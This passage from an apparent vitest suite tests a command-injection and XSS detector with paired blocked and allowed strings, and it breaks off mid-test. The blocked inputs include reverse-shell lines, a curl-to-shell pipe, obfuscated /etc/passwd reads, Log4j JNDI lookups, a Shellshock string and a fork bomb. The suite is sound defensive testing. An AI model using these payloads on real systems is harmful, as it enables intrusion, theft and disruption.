// Shell-grammar rules for command injection: words read through quoting/escaping/empty
// expansions, glob paths, brace expansion, alias/trap, wrappers, batch IF NOT. Every rule
// has positives and negatives written from the grammar (not from the corpus).
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import type { Detector } from '../../src/index.js';
import { detector, ruleIds, expectSameWhenSplit } from './helpers.js';

let d: Detector;
beforeAll(async () => { d = await detector(); });
afterAll(async () => { await d.close(); });

const positives: Array<[string, string]> = [
  ["w''hoami", 'cmdi.obfuscated-command'],
  ['un\\am\\e', 'cmdi.obfuscated-command'],
  ['l$@s -l', 'cmdi.obfuscated-command'],
  ['n``c -e x', 'cmdi.obfuscated-command'],
  ['wh$()oami', 'cmdi.obfuscated-command'],
  ['"ne"tstat -an', 'cmdi.obfuscated-command'],
  ["x;'who'ami -x", 'cmdi.chained-command'],
  ['q | u\\na$@me -a', 'cmdi.chained-command'],
  ['k; un${zz}ame -r', 'cmdi.chained-command'],
  ['k & $zz netstat -an', 'cmdi.chained-command'],
  ['k;(sh)', 'cmdi.chained-command'],
  ['k; iex (x)', 'cmdi.chained-command'],
  ['q=nc;$q -lvp 9', 'cmdi.chained-command'],
  ['${QQ} -c x', 'cmdi.command-with-args'],
  ['curl http://x.test/y', 'cmdi.command-with-args'],
  ['tac</srv/notes', 'cmdi.command-with-args'],
  ['<a b="uname -a">', 'cmdi.command-with-args'],
  ['https://x.test/?q=uname -a', 'cmdi.command-with-args'],
  ['uname$qq -r', 'cmdi.command-with-args'],
  ['ps # x', 'cmdi.command-with-args'],
  ['strace who', 'cmdi.command-with-args'],
  ['nohup w', 'cmdi.command-with-args'],
  ['dir d:', 'cmdi.command-with-args'],
  ['ssh-keygen -t x', 'cmdi.command-with-args'],
  ['/???/??n -x', 'cmdi.glob-path'],
  ['/us?/b?n/q', 'cmdi.glob-path'],
  ['/v*r/l?g/x', 'cmdi.glob-path'],
  ['cat /x/pa[s]s', 'cmdi.glob-path'],
  ['/[h]ome/[!z]ser', 'cmdi.glob-path'],
  ['/sbin/r?y', 'cmdi.glob-path'],
  ['bin/uname', 'cmdi.shell-path'],
  ["/bin/un'am'e", 'cmdi.shell-path'],
  ['alias q=w', 'cmdi.alias-trap'],
  ["z; alias -p ll='ls -l'", 'cmdi.alias-trap'],
  ["trap 'true' EXIT", 'cmdi.alias-trap'],
  ['{,uname,-a}', 'cmdi.command-substitution'],
  ['{netstat,-an}', 'cmdi.command-substitution'],
  ['if not exist q.txt r', 'cmdi.windows-batch'],
  ['IF NOT DEFINED zz echo y', 'cmdi.windows-batch'],
  ['if/i a==b c', 'cmdi.windows-batch'],
  ['if not {%2} == {} x', 'cmdi.windows-batch'],
  ["system('ls')", 'cmdi.exec-call'],
  ['<?php passthru($q); ?>', 'cmdi.exec-call'],
  ['subprocess.check_output("w")', 'cmdi.exec-call'],
  ["z;popen( 'x')", 'cmdi.exec-call'],
  // any name after ; | or a newline becomes a command once an option follows
  ['q;frobnicate -v', 'cmdi.chained-command'],
  ['z|mytool --all', 'cmdi.chained-command'],
  ['x; git-lfs -l', 'cmdi.chained-command'],
  ['k\nmy-tool -q', 'cmdi.chained-command'],
  ['$(frob -x)', 'cmdi.command-substitution'],
  // parameter expansion operators, arithmetic and empty substitution
  ['${HOME%/*}', 'cmdi.command-substitution'],
  ['${PATH:0:1}', 'cmdi.command-substitution'],
  ['${!ref}', 'cmdi.command-substitution'],
  ['${v/a/b}', 'cmdi.command-substitution'],
  ['$((1+2))', 'cmdi.command-substitution'],
  ['x$()y', 'cmdi.command-substitution'],
  // a shell handed over in an argv list or as an option value
  ['run zsh,-c,w', 'cmdi.shell-path'],
  ['ncat 1.2.3.4 80 -e zsh', 'cmdi.shell-path'],
  // a weak wrapper hands over to the weak command after it
  ['time free', 'cmdi.command-with-args'],
  ['time sort -r', 'cmdi.command-with-args'],
  ["'time' free", 'cmdi.command-with-args'],
  // '/' inside a bracket class
  ['ls /[h/]ome/x', 'cmdi.glob-path'],
  // a quoted command as a brace element
  ["{$'id',-a}", 'cmdi.command-substitution'],
  ['{,"netstat",-an}', 'cmdi.command-substitution'],
  // IMAP verbs after a tag
  ['x\r\nt1 CLOSE', 'cmdi.mail-command'],
  ['x\r\nk9 copy 1:2 Box', 'cmdi.mail-command'],
  // a quoted alias keeps the alias grammar
  ['<b t="alias k=ls">', 'cmdi.alias-trap'],
  // quoted argument or a call after a separator, a backtick opening the word
  ["q; printf 'x'", 'cmdi.chained-command'],
  ['z;iex(gc x)', 'cmdi.chained-command'],
  ['`wget h.test`', 'cmdi.command-substitution'],
  // cmd.exe caret escapes, a shell named by path, $0, {weak,arg} after a separator
  ['n^e^t^s^t^a^t -an', 'cmdi.obfuscated-command'],
  ['d:\\tools\\bash -c w', 'cmdi.shell-path'],
  ['k|$0', 'cmdi.chained-command'],
  ['k;{sort,-r}', 'cmdi.command-substitution'],
  // PowerShell verb-noun cmdlets after ; newline or in a substitution, %VAR% arguments, more commands
  ['q;Get-ChildItem', 'cmdi.chained-command'],
  ['q\nStop-Service w', 'cmdi.chained-command'],
  ['$(Get-Clipboard)', 'cmdi.command-substitution'],
  ['x & type %APPDATA%', 'cmdi.chained-command'],
  ['q | driverquery', 'cmdi.chained-command'],
  ['dmidecode -t 1', 'cmdi.command-with-args'],
  ['python3.11 -c x', 'cmdi.command-with-args'],
  ['k;whoami.exe', 'cmdi.chained-command'],
  ['q;type d:\\a.txt', 'cmdi.chained-command'],
  ["k;$'\\167\\150o'", 'cmdi.command-substitution'],
  // brace expansion inside a word: the first element takes part in the command name
  ['un{a,x}me -r', 'cmdi.obfuscated-command'],
  ['{p,-ef}s', 'cmdi.obfuscated-command'],
];

const negatives: string[] = [
  "I'd like a table for two",
  "O'Brien's pub and the cat's toy",
  "don't stop, it's fine",
  'rock n\' roll',
  'price is $5 or $10',
  'Mozilla/5.0 (X11; U; Linux; ps-AF) Gecko/20100101',
  'id-card holder',
  'src/**/*.ts',
  '/api/v1/items/42',
  'files/*.txt',
  '/a/b[0]/c',
  'alias for the account',
  'if not now, when?',
  '{red,green,blue}',
  'dir: north-east',
  'time who knows',
  'bin/readme',
  'see /**/ comments',
  'https://site.test/page?/route',
  '/docs/v?/intro',
  'tea (with milk)',
  'notes (draft)',
  'from $10 - $20 off',
  '<a title="cat photo">',
  'cat photo: nice',
  'cat</b> and <i>dog</i>',
  'sort=date desc&q=time for tea',
  'the system (good)',
  'solar system(s) list',
  'popen(fd) returns',
  'salt; pepper - to taste',
  'see note; item -3',
  'a;b -c',
  'bread & butter -ish',
  'cost ${name} and ${a.b}',
  'time who knows',
  'sort, -c, and more',
  '/blog/[slug]/page',
  'status\nclose the door',
  'x^2 + y^2',
  'see `notes` here',
  'price: $0 total',
  'foo();bar(1)',
  'a;print("x")',
  'docs/python guide',
  'Home | Get-Started',
  'thanks; get-well soon',
  'easy; set-up in minutes',
  'x; add-on pack',
  'save 50% now',
  '{file}',
  '/{id}/edit',
  'file{1,2}.txt',
  '{"a":"b","c":1}',
  'is-stream - check if it is a Node.js stream',
  'see `id(pattern)` and `() => x`',
  'x-e sh',
  'use -p cmd here',
  'npm i -g node-gyp',
  'see `frob -j` here',
  'Buffer | Node.js v20 Documentation',
  'the `node.h` header',
  'hooks run; use --no-verify to skip',
  "price $'x'",
];

describe('cmdi shell grammar', () => {
  it.each(positives)('%s fires %s', (input, rule) => {
    const r = d.scan(input, { context: 'query' });
    expect(ruleIds(r)).toContain(rule);
    expect(r.blocked).toBe(true);
  });
  it.each(negatives)('%s stays clean', (input) => {
    const r = d.scan(input, { context: 'query' });
    expect(r.threats.filter((t) => t.category === 'cmdi')).toEqual([]);
  });
  it('gives the same findings when split at every byte', () => {
    expectSameWhenSplit(d, positives.map(([input]) => input));
  });
});

describe('xss style attribute', () => {
  // (a value of plain declarations, <p style="color:red">, is allowed: see xss-grammar.test.ts)
  it.each(['<p style="color:red;position:fixed">', '<b style=x:y{}>', '<i\nstyle = "a">'])('%s is blocked as a tag with a style attribute', (input) => {
    const r = d.scan(input, { context: 'query' });
    expect(ruleIds(r)).toContain('xss.style-attribute');
    expect(r.blocked).toBe(true);
  });
  it.each(['style=casual', 'the style is <b>bold</b>', '<p class="style">', 'lifestyle="x"'])('%s stays clean', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).not.toContain('xss.style-attribute');
  });
});

describe('xss script obfuscation', () => {
  it.each([
    ['(![]+[])[+!![]]', 'xss.js-obfuscation'],
    ['![]+![]', 'xss.js-obfuscation'],
    ['top["confirm"](2)', 'xss.js-sink'],
    ['`${ prompt }`', 'xss.js-sink'],
  ])('%s fires %s', (input, rule) => {
    const r = d.scan(input, { context: 'query' });
    expect(ruleIds(r)).toContain(rule);
    expect(r.blocked).toBe(true);
  });
  it.each(['![](a.png) and ![alt](b.png)', 'if (!flag[0]) x', 'wow!! [yes]', 'cost ${ price }', 'window["title"]'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).blocked).toBe(false);
  });
});

describe('cmdi: a command word, a space and "&" at the start is a title', () => {
  it.each(['Find & Replace', 'Make & Model', 'Sort & Filter', 'Touch & Go', 'Head & Shoulders', 'fish & chips'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'body' }).blocked).toBe(false);
  });
  it.each(['whoami & ls', 'find & whoami', 'sleep 5 & id', 'find / -name x &'])('%s is still flagged', (input) => {
    expect(d.scan(input, { context: 'body' }).blocked).toBe(true);
  });
});

describe('cmdi: an English-word command alone after "&" at the end is a title', () => {
  it.each(['Copy & Paste', 'Cut & Paste', 'Time & Date', 'Salt & Pepper'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'body' }).blocked).toBe(false);
  });
  it.each(['x & whoami', 'a && id', '1 | date', '1; date'])('%s is still flagged', (input) => {
    expect(d.scan(input, { context: 'body' }).blocked).toBe(true);
  });
});

describe('cmdi: a word opening the value is judged with what follows', () => {
  // a short name before a bare number is an abbreviation; a weak word hands over to a command
  // after it; a weak word before ; | & leaves the judgement to the word after the separator
  it.each(['net 30', 'PS 4 Pro', 'rm 101', 'at 5pm', 'id 42', 'find cat food', 'Type make and press enter', 'yes|no', 'Sort | Filter', 'more; later'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
  });
  const still = ['nc 10.0.0.1 4444', 'ping 5', 'timeout 5', ';id 1', 'type whoami', 'start powershell', 'find ls -la', 'who|grep x', 'yes|sh', 'sleep 1;id', 'date; uname'];
  it.each(still)('%s is still flagged', (input) => {
    expect(d.scan(input, { context: 'query' }).blocked).toBe(true);
  });
  it('gives the same findings when split at every byte', () => { expectSameWhenSplit(d, still); });
});

describe('cmdi: after a separator', () => {
  // a weak command with a dotted argument (a host or a file), a file run or sourced by path
  const pos: Array<[string, string]> = [
    [';host x.example.test', 'cmdi.chained-command'],
    ['k|dig ns1.test', 'cmdi.chained-command'],
    ['x & start calc.exe', 'cmdi.chained-command'],
    [';./run', 'cmdi.chained-command'],
    ['|. /tmp/k', 'cmdi.chained-command'],
    ['q\n./build.sh', 'cmdi.chained-command'],
    ['$(./x)', 'cmdi.command-substitution'],
    ['x|sh', 'cmdi.chained-command'],
    ['$(bash)', 'cmdi.command-substitution'],
    ['x;bash -i', 'cmdi.chained-command'],
  ];
  it.each(pos)('%s fires %s', (input, rule) => {
    const r = d.scan(input, { context: 'query' });
    expect(ruleIds(r)).toContain(rule);
    expect(r.blocked).toBe(true);
  });
  // prose after ';' or '&', a word glued to a '.', shells and languages named in a list
  it.each(['a hero; more than', 'More & more people', '; host a party', 'x; find e.g. this', 'tea; more info.', 'see `./configure`',
    'ok; ./', 'Java; .NET; Python', 'Skills: Python; Java; C++', 'q; bash;'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
  });
  it('gives the same findings when split at every byte', () => { expectSameWhenSplit(d, pos.map(([input]) => input)); });
});

describe('cmdi: cmd.exe substring expansion and commands that need an argument', () => {
  const pos: Array<[string, string]> = [
    ['%ComSpec:~-7,1%', 'cmdi.windows-batch'],
    ['x%ProgramFiles:~10,1%y', 'cmdi.windows-batch'],
    ['; sleep 5', 'cmdi.chained-command'],
    ['x; kill -9 1', 'cmdi.chained-command'],
    ['1; date', 'cmdi.chained-command'],
  ];
  it.each(pos)('%s fires %s', (input, rule) => {
    const r = d.scan(input, { context: 'query' });
    expect(ruleIds(r)).toContain(rule);
    expect(r.blocked).toBe(true);
  });
  it.each(['100%:~', '50% off: ~3 left', 'Eat; Sleep; Code; Repeat', 'go; cd; done'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
  });
  it('gives the same findings when split at every byte', () => { expectSameWhenSplit(d, pos.map(([input]) => input)); });
});

describe('cmdi: a weak word alone in a markdown code span', () => {
  // backticks standing apart around one weak word are a code span; glued to a word, after a
  // separator, around a strong command, or the no-op probes true/false opening the value still substitute
  const pos: Array<[string, string]> = [
    ['x`date`', 'cmdi.command-substitution'],
    ['q;`who`', 'cmdi.command-substitution'],
    ['q|`type`', 'cmdi.command-substitution'],
    ['`id`', 'cmdi.command-substitution'],
    ['`true`', 'cmdi.command-substitution'],
    ['"`true`"', 'cmdi.command-substitution'],
    ['q=`false`', 'cmdi.command-substitution'],
    ['`sleep 5`', 'cmdi.command-substitution'],
  ];
  it.each(pos)('%s fires %s', (input, rule) => {
    const r = d.scan(input, { context: 'query' });
    expect(ruleIds(r)).toContain(rule);
    expect(r.blocked).toBe(true);
  });
  it.each(['the `date` field', '`who`', 'a `type` b', 'use `format` here', 'see `source` and `head`', 'set it to `false`.', 'defaults to `true` when'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
  });
  it('gives the same findings when split at every byte', () => { expectSameWhenSplit(d, pos.map(([input]) => input)); });
});

describe('cmdi: process substitution against generics, tags and arrows', () => {
  // a '>' that closes an earlier '<' (since the last separator) or ends => -> opens no process substitution
  const pos: Array<[string, string]> = [
    ['>(tee log)', 'cmdi.redirection'],
    ['pi<()ng 1', 'cmdi.redirection'],
    ['pi>()ng 1', 'cmdi.redirection'],
    ['x<y;cat >(id)', 'cmdi.redirection'],
    ['diff <(ls) x', 'cmdi.redirection'],
  ];
  it.each(pos)('%s fires %s', (input, rule) => {
    const r = d.scan(input, { context: 'query' });
    expect(ruleIds(r)).toContain(rule);
    expect(r.blocked).toBe(true);
  });
  it.each(['Array<T>(x)', 'createError<[string]>(1)', 'new Hono<{ B: H }>()', '() =>(x)', 'a->(b)', '<b>(note)</b>'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
  });
  it('gives the same findings when split at every byte', () => {
    expectSameWhenSplit(d, [...pos.map(([input]) => input), 'Array<T>(x)', 'new Hono<{ B: H }>()']);
  });
  it('starts every scan with no open "<" (the third state region is zeroed)', () => {
    d.scan('a<b<c<d<e', { context: 'body' });
    expect(ruleIds(d.scan('>(tee log)', { context: 'body' }))).toContain('cmdi.redirection');
    const s = d.createStream({ context: 'body' });
    s.push('>(id)');
    expect(ruleIds(s.finish())).toContain('cmdi.redirection');
  });
});

describe('cmdi: function definitions against methods in code prose', () => {
  const pos: Array<[string, string]> = [
    ['() { :; }; id', 'cmdi.function-definition'],
    ['x() { id; }', 'cmdi.function-definition'],
    ['function x() { id; }', 'cmdi.function-definition'],
    ['q;f(){ id;}', 'cmdi.function-definition'],
    [':(){ :|:& };:', 'cmdi.function-definition'],
    ['{ "() { :; }":"x" }', 'cmdi.function-definition'],
    ['int main(){}', 'cmdi.function-definition'],
  ];
  it.each(pos)('%s fires %s', (input, rule) => {
    const r = d.scan(input, { context: 'query' });
    expect(ruleIds(r)).toContain(rule);
    expect(r.blocked).toBe(true);
  });
  // a word out of command position before "() {" (with a space before the body) is a method
  it.each(['async function main() {', '(function * () {', 'export default function handler() {', 'a = () { b }'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
  });
  it('gives the same findings when split at every byte', () => { expectSameWhenSplit(d, pos.map(([input]) => input)); });
});

describe('cmdi: a closing backtick ends the substitution', () => {
  // after `...` the next word is judged like one opening the value; a weak word, a space and a backtick leave
  // the judgement to the substitution
  const pos: Array<[string, string]> = [
    ['`x` id -a', 'cmdi.command-substitution'],
    ['`date`;id', 'cmdi.chained-command'],
    ['a`id`b`whoami`', 'cmdi.command-substitution'],
    ['echo `id`', 'cmdi.command-substitution'],
    ['time `id`', 'cmdi.command-substitution'],
  ];
  it.each(pos)('%s fires %s', (input, rule) => {
    const r = d.scan(input, { context: 'query' });
    expect(ruleIds(r)).toContain(rule);
    expect(r.blocked).toBe(true);
  });
  it.each(['`foo()` at the top', 'Open `http://x.test` with your browser', 'Call `close()` to start', 'the `x` env variables'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
  });
  it('gives the same findings when split at every byte', () => { expectSameWhenSplit(d, pos.map(([input]) => input)); });
});

describe('cmdi: a strong command alone in a markdown code span', () => {
  // `id` standing apart in prose (after a space or a markdown '[', and a space and a word after it) is a code span;
  // opening the value, glued to anything, in command position, in a call, after a command or at the end it substitutes
  const pos: Array<[string, string]> = [
    ['`id`', 'cmdi.command-substitution'],
    ['(`id`)', 'cmdi.command-substitution'],
    ['f(`id`)', 'cmdi.command-substitution'],
    ['${`id`}', 'cmdi.command-substitution'],
    ['$(`id`)', 'cmdi.command-substitution'],
    ["'.print(`id`).'", 'cmdi.command-substitution'],
    ['echo `id`', 'cmdi.command-substitution'],
    // apart but not followed by prose: at the end, before punctuation
    ['127.0.0.1 `id`', 'cmdi.command-substitution'],
    ['x `id`;', 'cmdi.command-substitution'],
    ['a `id`.', 'cmdi.command-substitution'],
    // a no-op opening the value probes whether backticks run, unless prose goes on after it
    ['`true`', 'cmdi.command-substitution'],
    ['"`false`"', 'cmdi.command-substitution'],
    ['`true`;id', 'cmdi.command-substitution'],
  ];
  it.each(pos)('%s fires %s', (input, rule) => {
    const r = d.scan(input, { context: 'query' });
    expect(ruleIds(r)).toContain(rule);
    expect(r.blocked).toBe(true);
  });
  it.each(['the `id` field', 'run `hostname` to see it', '[`start`](#start)', '(`start`, `end`)', 'If `true`, x', 'set `false` or to',
    '`true` once the plugin has loaded', '`false`, deflated bodies are rejected', 'read the `id`, then the name'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
  });
  it('gives the same findings when split at every byte', () => { expectSameWhenSplit(d, pos.map(([input]) => input)); });
});

describe('cmdi: a path prefix the command word is not glued to', () => {
  const pos: Array<[string, string]> = [
    [';/bin/id', 'cmdi.chained-command'],
    ['; /usr/bin/id', 'cmdi.chained-command'],
    ['| . /tmp/x', 'cmdi.chained-command'],
  ];
  it.each(pos)('%s fires %s', (input, rule) => {
    const r = d.scan(input, { context: 'query' });
    expect(ruleIds(r)).toContain(rule);
    expect(r.blocked).toBe(true);
  });
  it.each(['x(); // true', 'a; // id', 'done; / see'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
  });
  it('gives the same findings when split at every byte', () => { expectSameWhenSplit(d, [...pos.map(([input]) => input), 'x(); // true']); });
});

describe('cmdi: an English-word command alone in backticks after a space is a Markdown code span', () => {
  it.each([
    'Returns `true` if the value is empty',
    'Defaults to `false`.',
    'Set the `type` option to `json`',
    'pass a `Date` or a number, then call `start`',
    'the `source` and `format` fields',
    '- `type` (`string`, optional): the kind',
    'then use `start`',
    'Options:\n`type` sets the kind',
  ])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'body' }).blocked).toBe(false);
    expectSameWhenSplit(d, [input], 'body');
  });
  it.each([
    '`true`', '"`false`"', 'x`date`', // the whole value, or glued to what comes before
    'name `id`', 'ip `whoami`', // a strong command
    'wait `sleep 5`', 'x `kill -9 1`', // arguments
    'a; `date`', 'a && `date`', // after a separator
    '| `id` |', // a strong command
  ])('%s is still flagged', (input) => {
    expect(d.scan(input, { context: 'body' }).blocked).toBe(true);
    expectSameWhenSplit(d, [input], 'body');
  });
});

describe('cmdi: a "<" or ">" glued to a name or a closing bracket is a generic, not process substitution', () => {
  it.each([
    "createError<[string]>('E_CODE', 'Hello %s')",
    'const app = new Hono<{ Bindings: Env }>()',
    'assert.promise<number>(input);',
    "expectTypeOf<Person>().pick<'name'>().toEqualTypeOf<{name: string}>()",
  ])('%s stays clean', (input) => {
    expect(ruleIds(d.scan(input, { context: 'body' }))).not.toContain('cmdi.redirection');
    expectSameWhenSplit(d, [input], 'body');
  });
  it.each(['cat <(id)', 'diff <(ls a) <(ls b)', 'x >(sh)', '<(whoami)', 'pi<()ng 127.0.0.1', 'id>/tmp/x'])('%s is still a redirection', (input) => {
    expect(ruleIds(d.scan(input, { context: 'body' }))).toContain('cmdi.redirection');
    expectSameWhenSplit(d, [input], 'body');
  });
});

describe('cmdi: after the keyword "function" a definition needs a body that starts like shell', () => {
  it.each(['function work() {', 'setTimeout(function () {', 'const f = function* () {', 'async function main () {', 'function ping() { return x; }'])('%s stays clean', (input) => {
    expect(ruleIds(d.scan(input, { context: 'body' }))).not.toContain('cmdi.function-definition');
    expectSameWhenSplit(d, [input], 'body');
  });
  it.each(['function f() { id; }; f', 'function x() { :; }', '() { :;}; echo vulnerable', 'f(){ f|f& };f', 'x() {'])('%s is a function definition', (input) => {
    expect(ruleIds(d.scan(input, { context: 'body' }))).toContain('cmdi.function-definition');
    expectSameWhenSplit(d, [input], 'body');
  });
});

describe('cmdi: Markdown tables and code comments are not command lines', () => {
  it.each(['| Name | Type | Description |', '| Date | Set | Map |', 'console.log(isMatch(x)); // true', 'x = 1; // date'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'body' }).blocked).toBe(false);
    expectSameWhenSplit(d, [input], 'body');
  });
  it.each(['a | date | grep x', 'x|date |', ';/bin/id', 'a; /usr/bin/whoami', '| id |'])('%s is still flagged', (input) => {
    expect(d.scan(input, { context: 'body' }).blocked).toBe(true);
    expectSameWhenSplit(d, [input], 'body');
  });
});

describe('cmdi: nested Log4j lookups', () => {
  // Lookups nested to spell "jndi" around a WAF: ${${lower:j}ndi:..}, ${::-j}, ${j${k8s:x:-ND}i:..} are Log4j syntax
  // that bash rejects as a bad substitution, so they never occur in a shell-looking value by accident.
  it.each(['${${lower:j}ndi:${lower:l}dap://x.test/a}', '${${::-j}${::-n}${::-d}${::-i}:rmi://x.test/a}',
    '${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x.test/a}', '${j${k8s:k5:-ND}i:ldap://x.test/a}', 'x-${jn${lower:d}i:dns://x.test}'])('%s fires', (input) => {
    expect(ruleIds(d.scan(input, { context: 'header' }))).toContain('cmdi.command-substitution');
    expectSameWhenSplit(d, [input], 'header');
  });
  it.each(['${$}', 'a ${b} ${c}', '${a}${b}', '${name}${other}', 'Total: ${amount} (${currency})'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'header' }).blocked).toBe(false);
    expectSameWhenSplit(d, [input], 'header');
  });
});

describe('cmdi: an opening backtick glued to a word', () => {
  // x`cmd`: the shell word is x plus cmd's output, and cmd runs; only an empty pair (wh``oami) glues the pieces
  it.each(['x`p\\ing -c 3 127.0.0.1`', "x`p''ython -c 'import os'`", 'x`wh\\oami`', "a`c'a't /etc/passwd`"])('%s reads the obfuscated command inside', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.obfuscated-command');
    expectSameWhenSplit(d, [input]);
  });
  it.each(['wh``oami', 'c``at /etc/passwd'])('%s still joins across the empty pair', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.obfuscated-command');
    expectSameWhenSplit(d, [input]);
  });
});

describe('cmdi: process-starting calls from inside other languages', () => {
  it.each(["require('child_process').exec('id')", 'import { exec } from "node:child_process"', 'Runtime.getRuntime().exec("id")',
    '${T(java.lang.Runtime).getRuntime().exec("id")}', 'new ProcessBuilder("id").start()'])('%s is an exec call', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.exec-call');
    expectSameWhenSplit(d, [input]);
  });
  it.each(['the child_process module docs', 'see `child_process` in the Node docs', 'getRuntime is a method', 'x=child_process'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'body' }).blocked).toBe(false);
  });
});

describe('cmdi: a developer tool opening a code span that stands apart documents a command', () => {
  // npm/npx/pip/make/git/docker/kubectl/apt ... and the runtimes named first in a span standing apart in prose, a
  // table cell or a quote; a runtime given -c/-e (php -r), a separator inside, or a span glued to a value, a word
  // or a separator still substitutes, as does any other command (curl, sleep) or a wrapper (sudo)
  it.each([
    'Run `npm install express` to add the dependency', '> `npm i -D vitest`', '| `npm start` | Starts the server |',
    '* `make test` - runs the tests', 'Then `kubectl apply -f x.yaml` applies it', 'run `node app.js`, then open it',
    'Run `python -m venv .venv` first', 'Run `node -r ts-node/register x.js` now', '`npm` executable', '`npm run bench` - benchmarks',
    'Use `git commit -m "x"` to save', 'Install with `pip install requests`', 'x | `npm i x` |', '| `ls -la` | lists |', 'Launch (`npm run dev`) and',
  ])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'body');
  });
  it.each([
    'x=`npm i evil`', ';`npm i x`', 'x`npm i x`', 'x=`npm`',
    'Run `python -c "import os"` now', 'Run `node -e "x"` now', 'Run `php -r "x"` now', 'Run `perl -pe s/a/b/ x` now',
    'Run `npm i x; id` now', 'Run `npm i x | sh` now', '`npm run x` && curl http://x.test | sh',
    'Run `curl http://x.test` now', 'Run `sudo apt install x` now', '`id`',
    // after a separator and a space, and after '| ' unless the span is a table cell (" |" after it)
    "'.print(`npm i evil`).'", 'f(`date`)', 'f(`ls -la`) x', // an argument of a call: the punctuation before it glued to a word
    'x && `npm i evil`', 'a; `npm test` runs the tests', 'x; `ls -la` y', '| `npm i x` now', '| `npm i x`', '| `ls -la` now', '| `node app.js` |',
  ])('%s is still flagged', (input) => {
    expect(d.scan(input, { context: 'body' }).blocked).toBe(true);
    expectSameWhenSplit(d, [input], 'body');
  });
});

describe('cmdi: a weak word alone in a span after a separator and a space', () => {
  // "; `false` otherwise" is prose after a semicolon, "| `true` |" a Markdown table cell; at the end, glued to the
  // separator, with arguments or a strong word it still substitutes
  it.each(['a; `false` otherwise', '| `enabled` | `boolean` | `true` | on |', '| `date` | `2020-04-03` |', 'x & `true` when set'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'body');
  });
  it.each(['a; `date`', 'a && `date`', '| `id` |', 'x | `date` | grep x', 'a;`date` x', '&`true` x', 'a; `sleep 5` x'])('%s is still flagged', (input) => {
    expect(d.scan(input, { context: 'body' }).blocked).toBe(true);
    expectSameWhenSplit(d, [input], 'body');
  });
});

describe('cmdi: an "==" inside the parenthesis after IF is a C-like condition', () => {
  // cmd.exe compares operands outside parentheses (IF (%1)==() ...); JavaScript, C, Java and PHP wrap the whole
  // condition in them: if (x === 'y') {
  it.each(["if (x === 'y') {", 'if (err !== null) {', 'if (path.extname(file) === ".html") {', 'if (a == b) x = 1;'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'body');
  });
  it.each(['IF (%1)==() GOTO x', '& if (%a%)==(b) echo x', 'x & IF NOT (%1)==() dir', 'IF "%a%"=="b" echo x', 'if not {%2} == {} x'])('%s is still flagged', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.windows-batch');
    expectSameWhenSplit(d, [input]);
  });
});

describe('cmdi: a file tool with arguments in a span standing apart, followed by prose', () => {
  // ls/cat/grep/tar/mkdir ... with arguments in a code span that prose goes on after documents a step; at the end,
  // glued to a value, with a separator, redirection or expansion inside, or any other command it still substitutes
  it.each(['Run `ls -la` to see the files', 'x `ls -la` y', '| `ls -la` | lists files |', 'Use `grep -r TODO src` to find them',
    '`tar -xzf a.tgz` unpacks it', 'then `mkdir -p dist`, and build', 'On Windows use `dir` instead of `ls`.', 'x `cat`.'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'body');
  });
  it.each(['`ls -la`', 'Run `ls -la`.', 'x=`ls -la` y', 'Run `ls -la; id` now', 'x `echo hi > /tmp/x` y', 'x `cat $HOME/.x` y',
    'x `ls -la ${HOME}` y', 'the `ls -la | sh` x', 'x `cat ; id` y', 'hello `cat /etc/passwd`', 'x `rm -rf /tmp/a` y',
    'x `curl http://x.test` y', 'x `sleep 5` y', 'x `ls`', '127.0.0.1 `ls`', '`ls`'])('%s is still flagged', (input) => {
    expect(d.scan(input, { context: 'body' }).blocked).toBe(true);
    expectSameWhenSplit(d, [input], 'body');
  });
});

describe('cmdi: more prose after a strong command alone in a span', () => {
  // a ':' and a word ("* `timeout`: the number"), a dash standing alone ("`timeout` - time in ms"), a Markdown link
  // ("[`timeout`](#timeout)") or another span in a list ("`timeout`, `retries`") continue prose
  it.each(['* `timeout`: The number of seconds', '- [`timeout`](#timeout)', '- `timeout` - time in milliseconds',
